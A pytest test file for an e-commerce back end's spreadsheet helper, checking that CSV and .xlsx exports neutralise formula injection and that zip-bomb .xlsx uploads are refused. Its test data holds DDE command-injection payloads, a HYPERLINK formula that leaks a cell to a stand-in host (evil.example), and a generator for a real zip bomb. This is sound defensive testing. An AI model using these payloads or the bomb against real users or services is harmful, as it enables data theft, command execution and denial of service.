"""LAW-04 / DAT-02: spreadsheets EcomOps writes cannot carry a live formula (formula injection), and an
uploaded .xlsx that declares too much (a zip bomb) is refused from its directory, before anything is
inflated. ``ecomops.core.spreadsheets`` is the one place for both; a test below checks that no other
module writes a workbook or a CSV, or opens an .xlsx, around it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from ecomops.core import spreadsheets
from ecomops.core.errors import BusinessError

HOSTILE = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")']
ROOT = Path(__file__).resolve().parents[3]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_comes_back(value):
    safe = spreadsheets.neutralise(value)
    assert safe == "'" + value
    assert spreadsheets.restore(safe) == value


@pytest.mark.parametrize("value", ["-5", "-12.50", "+86", "1e5", "西湖龙井", "", "a=b", "'=x", "3-1"])
def test_plain_numbers_and_ordinary_text_are_left_alone(value):
    assert spreadsheets.neutralise(value) == value
    assert spreadsheets.restore(value) == value or value == "'=x"


@pytest.mark.parametrize("value", [Decimal("-5.00"), -3, -1.5, None, True])
def test_numbers_and_other_values_are_not_text(value):
    assert spreadsheets.neutralise(value) is value


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    book = spreadsheets.workbook()
    sheet = book.create_sheet(title="t")
    sheet.append(spreadsheets.bold_row(sheet, ["=header", "金额"]))
    for value in HOSTILE:
        sheet.append([value, Decimal("-12.50")])
    sheet.append(["#N/A", -7])
    sheet.append(["bad\x01char", 0])  # a control character must not break the export
    made = spreadsheets.cell(sheet._sheet, "=made elsewhere")
    sheet.append([made, 1])
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in _sheet_xml(out.getvalue())  # not one formula in the file
    rows = list(load_workbook(io.BytesIO(out.getvalue())).worksheets[0].iter_rows())
    assert rows[0][0].value == "'=header"
    for row, value in zip(rows[1:], HOSTILE, strict=False):
        assert row[0].data_type == "s" and row[0].value == ("'" + value).replace("\r", "\n")  # XML reads CR as LF
        assert row[1].data_type == "n" and row[1].value == -12.5  # a negative amount is a number cell
    assert rows[-3][0].data_type == "s" and rows[-3][0].value == "#N/A" and rows[-3][1].value == -7
    assert rows[-2][0].value == "badchar"
    assert rows[-1][0].value == "'=made elsewhere"


def test_csv_writer_neutralises_text_and_keeps_numbers():
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out)
    writer.writerow(["昵称", "金额"])
    writer.writerows([[value, "-12.50"] for value in HOSTILE])
    writer.writerow([Decimal("-3.00"), -4])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[0] for row in rows[1:-1]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in rows[1:-1]} == {"-12.50"}
    assert rows[-1] == ["-3.00", "-4"]


def test_every_spreadsheet_writer_and_xlsx_reader_goes_through_the_shared_helper():
    """One helper, used by every writer: no module but core.spreadsheets makes an openpyxl Workbook or a
    csv writer, and every module that opens an .xlsx checks its archive first."""
    own = ROOT / "ecomops" / "core" / "spreadsheets.py"
    files = [p for p in [*ROOT.joinpath("ecomops").rglob("*.py"), *ROOT.joinpath("bench").rglob("*.py")]
             if "tests" not in p.parts and "migrations" not in p.parts and p != own]
    assert len(files) > 100
    writers, readers = [], []
    for path in files:
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\bwrite_only\s*=\s*True", text):
            writers.append(str(path.relative_to(ROOT)))
        if "load_workbook(" in text and "check_xlsx_archive(" not in text:
            readers.append(str(path.relative_to(ROOT)))
    assert writers == [] and readers == []


# --- zip bombs ---------------------------------------------------------------------------------------

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                 '2006/content-types"/>')


def zip_bomb(path: Path, *, megabytes: int = 200, entries: int = 1) -> Path:
    """A real zip bomb shaped like an .xlsx: ``megabytes`` MB of worksheet XML that deflate squeezes
    about a thousand times (a few hundred KB on disk), written in 1 MB pieces (constant memory)."""
    piece = b"<row><c><v>0</v></c></row>" * ((1 << 20) // 26)
    piece = piece + b" " * ((1 << 20) - len(piece))
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        for n in range(entries):
            with archive.open(f"xl/worksheets/sheet{n + 1}.xml", "w", force_zip64=True) as sheet:
                for _ in range(megabytes):
                    sheet.write(piece)
    return path


@pytest.fixture
def no_inflating(monkeypatch):
    """Call it once the archives are built: from then on, opening any entry fails the test (proof that
    the check reads only the archive's directory, so it is as quick for 1 GB as for 1 KB)."""
    def forbid():
        def refuse(*args, **kwargs):
            raise AssertionError("an entry was inflated")

        monkeypatch.setattr(zipfile.ZipFile, "open", refuse)

    return forbid


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating_anything(tmp_path, no_inflating):
    bomb = zip_bomb(tmp_path / "orders.xlsx")
    assert bomb.stat().st_size < 2 << 20  # small on disk, 200 MB declared
    no_inflating()
    with pytest.raises(BusinessError) as refused:
        spreadsheets.check_xlsx_archive(bomb)
    assert refused.value.field == "file" and refused.value.code == "bad_file"
    assert "压缩比" in refused.value.message and "压缩炸弹" in refused.value.message
    with open(bomb, "rb") as handle, pytest.raises(BusinessError):
        spreadsheets.check_xlsx_archive(handle)


def test_the_limits_are_settings_and_each_one_refuses(tmp_path, settings, no_inflating):
    honest = tmp_path / "honest.xlsx"
    with zipfile.ZipFile(honest, "w", compression=zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/sharedStrings.xml", b"x" * (3 << 20))
        for n in range(30):
            archive.writestr(f"xl/worksheets/sheet{n + 1}.xml", b"<worksheet/>")
    no_inflating()
    spreadsheets.check_xlsx_archive(honest)  # the defaults take it
    settings.ECOMOPS_XLSX_MAX_ENTRIES = 20
    with pytest.raises(BusinessError, match="个文件"):
        spreadsheets.check_xlsx_archive(honest)
    settings.ECOMOPS_XLSX_MAX_ENTRIES = 10_000
    settings.ECOMOPS_XLSX_MAX_SHARED_STRINGS_BYTES = 2 << 20
    with pytest.raises(BusinessError, match="共享文字"):
        spreadsheets.check_xlsx_archive(honest)
    settings.ECOMOPS_XLSX_MAX_SHARED_STRINGS_BYTES = 256 << 20
    settings.ECOMOPS_XLSX_MAX_UNCOMPRESSED_BYTES = 1 << 20
    with pytest.raises(BusinessError, match="解压后共"):
        spreadsheets.check_xlsx_archive(honest)


def test_a_file_that_is_not_a_zip_archive_is_refused_with_a_message(tmp_path):
    with pytest.raises(BusinessError, match="不是有效的 .xlsx"):
        spreadsheets.check_xlsx_archive(io.BytesIO(b"not a workbook at all"))


def test_an_ordinary_workbook_passes_and_is_rewound():
    book = spreadsheets.workbook()
    sheet = book.create_sheet(title="订单")
    for n in range(20_000):
        sheet.append([f"TB{n:08d}", "买家已付款，等待卖家发货", "浙江省 杭州市 西湖区 文三路 100 号", Decimal("99.90")])
    out = io.BytesIO()
    book.save(out)
    out.seek(5)
    spreadsheets.check_xlsx_archive(out)
    assert out.tell() == 5
